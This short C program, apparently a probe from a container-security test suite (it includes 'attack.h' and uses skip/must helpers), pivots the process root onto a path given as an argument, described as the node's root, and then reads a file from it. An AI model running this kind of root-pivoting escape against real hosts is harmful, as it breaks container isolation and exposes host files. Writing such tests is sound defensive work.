// SPDX-License-Identifier: Apache-2.0
/* The node's root becomes this process's root, as container runtimes do: pivot ROOT PATH */
#include "attack.h"

int main(int count, char **arguments) {
    (void)count;
    private_mounts();
    must("bind", mount(arguments[1], arguments[1], NULL, MS_BIND | MS_REC, NULL));
    must("chdir", chdir(arguments[1]));
    int result = syscall(SYS_pivot_root, ".", ".");
    if (result < 0 && errno == EINVAL)
        skip("the root of this system is an initial RAM file system, which cannot be pivoted");
    must("pivot_root", result);
    must("umount", umount2(".", MNT_DETACH));
    must("chdir", chdir("/"));
    read_file(arguments[2]);
    return 0;
}
